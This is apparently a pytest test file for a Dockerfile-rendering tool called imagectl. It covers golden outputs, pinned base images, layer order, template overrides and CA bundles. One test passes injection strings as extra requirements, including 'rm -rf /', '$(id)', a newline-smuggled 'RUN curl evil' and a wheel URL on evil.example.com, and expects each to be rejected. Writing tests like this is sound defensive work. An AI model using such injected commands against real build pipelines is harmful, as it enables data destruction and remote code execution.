"""Rendering: golden Dockerfiles, determinism, user template overrides, and injection attempts."""

import os
from pathlib import Path

import pytest

from imagectl.config import Config
from imagectl.errors import TemplateError, ValidationError
from imagectl.matrix.names import resolve_profile
from imagectl.render.dockerfile import context_files, write_context

GOLDEN = Path(__file__).parent / "golden"
MIRRORED = Config(mirrors={"docker.io": "mirror.example.com/hub"}, apt_mirror="http://apt.example.com/ubuntu",
                  pip_extra_index_urls=("https://extra.example.com/simple",), pip_trusted_hosts=("extra.example.com",))


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("IMAGECTL_UPDATE_GOLDEN"):
        path.write_text(text)
    assert text == path.read_text(), f"{name} differs from its golden file (IMAGECTL_UPDATE_GOLDEN=1 rewrites it)"


@pytest.mark.parametrize("profile, config, golden", [
    ("torch-2.3-cu121", Config(), "torch-2.3-cu121.Dockerfile"),
    ("torch-2.3-cu118-devel", MIRRORED, "torch-2.3-cu118-devel.mirrored.Dockerfile"),
])
def test_golden_dockerfiles(matrix, profile, config, golden):
    files = context_files(resolve_profile(profile, matrix), config)
    check_golden(golden, files["Dockerfile"].decode())


def test_requirements_pin_everything_with_the_variant_index(matrix):
    req = context_files(resolve_profile("torch-2.3-cu118", matrix), MIRRORED)["requirements.txt"].decode()
    assert "--index-url https://download.pytorch.org/whl/cu118\n" in req
    assert "--extra-index-url https://extra.example.com/simple\n" in req
    for pin in ("torch==2.3.1", "torchvision==0.18.1", "nvidia-nccl-cu11==2.20.5", "nvidia-cudnn-cu11==8.7.0.84"):
        assert pin + "\n" in req


def test_configured_index_replaces_default(matrix):
    cfg = Config(pip_index_url="https://pypi.example.com/whl/{cuda_tag}")
    req = context_files(resolve_profile("torch-2.3-cu121", matrix), cfg)["requirements.txt"].decode()
    assert "--index-url https://pypi.example.com/whl/cu121\n" in req


def test_rendering_is_deterministic_and_base_is_pinned(matrix):
    p = resolve_profile("torch-2.3-cu121", matrix)
    digest = "sha256:" + "ab" * 32
    one = context_files(p, MIRRORED, base_digest=digest)
    assert one == context_files(p, MIRRORED, base_digest=digest)
    dockerfile = one["Dockerfile"].decode()
    assert f"FROM mirror.example.com/hub/nvidia/cuda:12.1.1-runtime-ubuntu22.04@{digest}\n" in dockerfile
    assert f'org.opencontainers.image.base.digest="{digest}"' in dockerfile


def test_layers_shared_and_extras_last(matrix):
    a = context_files(resolve_profile("torch-2.3-cu121", matrix), Config())["Dockerfile"].decode()
    b = context_files(resolve_profile("torch-2.3-cu118", matrix), Config())["Dockerfile"].decode()
    def steps_after_from(text: str) -> str:
        return text.split("COPY requirements.txt")[0].split("\nFROM ", 1)[1].split("\n", 1)[1]

    assert "python3.10 -m venv" in steps_after_from(a)
    assert steps_after_from(a) == steps_after_from(b)  # same Python/venv steps: cached once per base
    with_extras = context_files(resolve_profile("torch-2.3-cu121", matrix), Config(), extras=["einops==0.8.0"])
    text = with_extras["Dockerfile"].decode()
    runs = [line for line in text.splitlines() if line.startswith(("RUN", "COPY"))]
    assert runs[-1].startswith("RUN pip install") and "extra-requirements.txt" in runs[-1]
    assert with_extras["extra-requirements.txt"] == b"einops==0.8.0\n"


@pytest.mark.parametrize("extra", [
    "numpy; rm -rf /", "numpy @ https://evil.example.com/numpy.whl", "x==1 $(id)", "pkg\nRUN curl evil", "'quoted'",
])
def test_extra_requirement_injection_is_rejected(matrix, extra):
    with pytest.raises(ValidationError):
        context_files(resolve_profile("torch-2.3-cu121", matrix), Config(), extras=[extra])


def test_user_templates_override_partials(matrix, tmp_path):
    (tmp_path / "partials").mkdir()
    (tmp_path / "partials" / "ca.j2").write_text("\n# team partial for {{ profile.name }}\n")
    files = context_files(resolve_profile("torch-2.3-cu121", matrix), Config(template_dirs=(tmp_path,)))
    text = files["Dockerfile"].decode()
    assert "# team partial for torch-2.3-cu121" in text


def test_undefined_variable_is_a_template_error(matrix, tmp_path):
    (tmp_path / "partials").mkdir()
    (tmp_path / "partials" / "ca.j2").write_text("{{ no_such_thing }}")
    with pytest.raises(TemplateError, match="no_such_thing"):
        context_files(resolve_profile("torch-2.3-cu121", matrix), Config(template_dirs=(tmp_path,)))


def test_ca_bundle_is_copied_into_context(matrix, tmp_path):
    ca = tmp_path / "corp.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\n")
    files = context_files(resolve_profile("torch-2.3-cu121", matrix), Config(ca_bundle=ca))
    assert files["ca.pem"] == ca.read_bytes() and b"COPY ca.pem" in files["Dockerfile"]
    written = write_context(files, tmp_path / "ctx")
    assert sorted(p.name for p in written) == ["Dockerfile", "ca.pem", "imagectl-check.py", "requirements.txt"]


def test_check_script_is_valid_python(matrix):
    script = context_files(resolve_profile("torch-2.3-cu121", matrix), Config())["imagectl-check.py"].decode()
    compile(script, "imagectl-check.py", "exec")
